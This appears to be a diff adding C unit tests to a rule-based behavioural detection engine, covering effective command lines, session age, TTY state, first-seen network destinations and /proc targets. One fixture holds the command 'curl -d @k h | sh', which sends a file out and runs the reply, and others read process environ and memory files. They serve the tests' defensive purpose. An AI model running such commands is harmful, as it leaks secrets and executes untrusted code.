@@ -204,12 +204,161 @@ static void deep_trees_and_long_argvs_fit(void **state)
 
 #define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
 
+static void effective_commands_follow_the_literal_one(void **state)
+{
+	struct hf_action a = exec_of(&w, 12, "/usr/bin/bash", HF_STR("bash\0-lc\0cd /x && curl -d @k h | sh\0"));
+
+	SEES("process_creation", "EffectiveImage|endswith: /curl, EffectiveCommandLine: 'curl -d @k h'", &a);
+	SEES("process_creation", "EffectiveImage: /usr/bin/bash, EffectiveCommandLine|startswith: 'bash -lc'", &a);
+	BLIND("process_creation", "EffectiveImage|endswith: /wget", &a);
+	BLIND("process_creation", "Truncated|exists: true, EffectiveImage|exists: true", &a);
+	a = exec_of(&w, 12, "/tmp/x.sh", HF_STR("x.sh\0-c\0rm\0"));
+	a.flags |= HF_ACT_SCRIPT;
+	a.interp = HF_STR("/usr/bin/dash");
+	SEES("process_creation", "EffectiveImage: /tmp/x.sh, ScriptInterpreter: /usr/bin/dash", &a);
+	a = open_of(&w, 12, "/etc/x", O_RDONLY);
+	BLIND("file_access", "EffectiveImage|exists: true", &a);
+}
+
+static void what_is_cut_of_effective_commands_is_said(void **state)
+{
+	char argv[256] = "sh\0-c\0";
+	size_t n = 6;
+	struct hf_action a;
+
+	for (int i = 0; i < 40; i++)
+		n += (size_t)sprintf(argv + n, "a%d;", i);
+	a = exec_of(&w, 12, "/usr/bin/dash", (struct hf_str){ argv, n + 1 });
+	SEES("process_creation", "Truncated: command, EffectiveCommandLine|contains: 'a39'", &a);
+	/* When no rule asks, it is not worked out, so that nothing can be cut. */
+	BLIND("process_creation", "Truncated|exists: true", &a);
+}
+
+static void the_session_has_an_age_and_a_length(void **state)
+{
+	struct hf_action a = open_of(&w, 12, "/etc/x", O_RDONLY);
+
+	/* sees() makes a session that begins 2 forks and 2 execs ago */
+	SEES("file_access", "ActionCount: 4", &a);
+	a.time_ns += 3600 * S_NS;
+	SEES("file_access", "SessionAge|gte: 3599, SessionAge|lt: 3601, ActionCount|lt: 5", &a);
+	a.time_ns = 1;
+	SEES("file_access", "SessionAge: 0", &a);
+	BLIND("file_access", "IsTty|exists: true", &a);
+	hf_traj_set_tty(w.t, true);
+	BLIND("file_access", "IsTty: 'false'", &a);
+}
+
+static void a_tty_is_one_when_it_is_said(void **state)
+{
+	struct hf_action a;
+	struct world v;
+
+	world_open(&v, "title: T\nid: tty\nlogsource: {category: file_access}\ndetection: {s: {IsTty: 'true'}, condition: s}\n",
+		   NULL);
+	first(&v, 10);
+	a = open_of(&v, 10, "/x", O_RDONLY);
+	assert_false(found(go(&v, &a), "tty"));
+	hf_traj_set_tty(v.t, true);
+	assert_true(found(go(&v, &a), "tty"));
+	hf_traj_set_tty(v.t, false);
+	assert_false(found(go(&v, &a), "tty"));
+	world_close(&v);
+}
+
+static void destinations_are_first_seen_once(void **state)
+{
+	struct hf_action a;
+	struct world v;
+
+	world_open(&v, "title: T\nid: new\nlogsource: {category: network_connection}\n"
+		   "detection: {s: {FirstSeenDestination: 'true'}, condition: s}\n"
+		   "---\ntitle: U\nid: old\nlogsource: {category: network_connection}\n"
+		   "detection: {s: {FirstSeenDestination: 'false'}, condition: s}\n", NULL);
+	first(&v, 10);
+	a = connect_of(&v, 10, 7);
+	a.flags |= HF_ACT_DENIED;
+	assert_true(found(go(&v, &a), "new"));
+	a.flags = 0;
+	assert_true(found(go(&v, &a), "new"));
+	assert_true(found(go(&v, &a), "old"));
+	a.addr.port++;
+	assert_true(found(go(&v, &a), "new"));
+	a.kind = HF_SEND;
+	assert_true(found(go(&v, &a), "old"));
+	a.kind = HF_ACCEPT;
+	assert_int_equal(go(&v, &a)->nfindings, 0);
+	a = connect_of(&v, 10, 7);
+	a.addr = (struct hf_addr){ .family = AF_UNIX, .sun_len = 7, .sun = "/run/x" };
+	assert_true(found(go(&v, &a), "new"));
+	assert_true(found(go(&v, &a), "old"));
+	/* More than fit: the oldest are new again, and it is counted. */
+	a = connect_of(&v, 10, 7);
+	for (uint32_t i = 0; i < 5000; i++) {
+		a.addr.ip[2] = (uint8_t)(i >> 8);
+		a.addr.ip[3] = (uint8_t)i;
+		a.addr.port = 1;
+		assert_true(found(go(&v, &a), "new"));
+	}
+	assert_true(hf_traj_stats(v.t)->forgotten_dests > 0);
+	a = connect_of(&v, 10, 7);
+	assert_true(found(go(&v, &a), "new"));
+	world_close(&v);
+}
+
+static void a_proc_file_has_a_process_behind_it(void **state)
+{
+	struct hf_action a = open_of(&w, 12, "/proc/11/environ", O_RDONLY);
+
+	SEES("file_access", "TargetProcessId: 11, TargetImage: /bin/bash", &a);
+	BLIND("file_access", "TargetProcessId|fieldref: ProcessId", &a);
+	a.path = HF_STR("/proc/12/task/12/mem");
+	SEES("file_access", "TargetProcessId|fieldref: ProcessId", &a);
+	a.path = HF_STR("/proc/11x/environ");
+	BLIND("file_access", "TargetProcessId|exists: true", &a);
+	a.path = HF_STR("/proc/99999999999/environ");
+	BLIND("file_access", "TargetProcessId|exists: true", &a);
+	a.path = HF_STR("/proc/sys/kernel");
+	BLIND("file_access", "TargetProcessId|exists: true", &a);
+}
+
+static void new_owners_are_seen(void **state)
+{
+	struct hf_action a = act(&w, HF_CHOWN, 12);
+
+	a.path = HF_STR("/x");
+	a.mode = 0;
+	SEES("file_change", "OwnerId: 0", &a);
+	a.mode = UINT32_MAX;
+	BLIND("file_change", "OwnerId|exists: true", &a);
+	a = act(&w, HF_SETUID, 12);
+	a.nr = 105;
+	a.mode = 1001;
+	SEES("syscall", "OwnerId: 1001", &a);
+	a.nr = 106;	/* setgid */
+	BLIND("syscall", "OwnerId|exists: true", &a);
+}
+
+static void an_unread_field_is_left_out(void **state)
+{
+	struct hf_action a = open_of(&w, 12, "/etc/x", O_RDONLY);
+
+	SEES("file_access", "Image: /usr/bin/git", &a);
+	assert_true(hf_ruleset_fields(w.rs) == UINT64_C(1) << HF_F_IMAGE);
+	BLIND("file_access", "TargetProcessId|fieldref: ProcessId", &a);
+	assert_true(hf_ruleset_fields(w.rs) == (UINT64_C(1) << HF_F_TARGET_PROCESS_ID | UINT64_C(1) << HF_F_PROCESS_ID));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		T(exec_is_the_new_image_and_its_parent_process), T(scripts_show_both), T(files_have_their_categories),
 		T(files_have_their_fields), T(the_workspace_is_never_claimed_wrongly), T(network_has_its_fields),
 		T(other_calls_have_their_targets), T(cut_things_say_so), T(users_get_their_names), T(deep_trees_and_long_argvs_fit),
+		T(effective_commands_follow_the_literal_one), T(what_is_cut_of_effective_commands_is_said),
+		T(the_session_has_an_age_and_a_length), T(a_tty_is_one_when_it_is_said),
+		T(destinations_are_first_seen_once), T(a_proc_file_has_a_process_behind_it),
+		T(new_owners_are_seen), T(an_unread_field_is_left_out),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
